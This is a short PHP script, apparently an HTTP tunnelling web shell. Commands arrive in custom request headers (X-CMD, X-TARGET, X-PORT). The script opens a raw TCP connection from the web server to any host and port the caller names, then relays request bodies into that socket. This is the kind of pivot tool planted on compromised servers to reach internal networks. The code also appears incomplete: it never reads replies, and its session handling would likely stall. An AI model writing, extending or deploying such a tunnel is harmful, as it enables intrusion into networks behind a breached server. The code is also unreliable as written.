<?php
session_start();
$cmd = $_SERVER['HTTP_X_CMD'];
if ($cmd === 'CONNECT') {
	$target = $_SERVER['HTTP_X_TARGET'];
	$port = $_SERVER['HTTP_X_PORT'];
	$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
	socket_connect($s, $target, $port);
	$_SESSION['buf'] = '';
	while (true) {
		$w = $_SESSION['buf'];
		if ($w !== '') {
			socket_write($s, $w, strlen($w));
			$_SESSION['buf'] = '';
		}
		usleep(50000);
	}
} elseif ($cmd === 'FORWARD') {
	$_SESSION['buf'] .= file_get_contents('php://input');
}
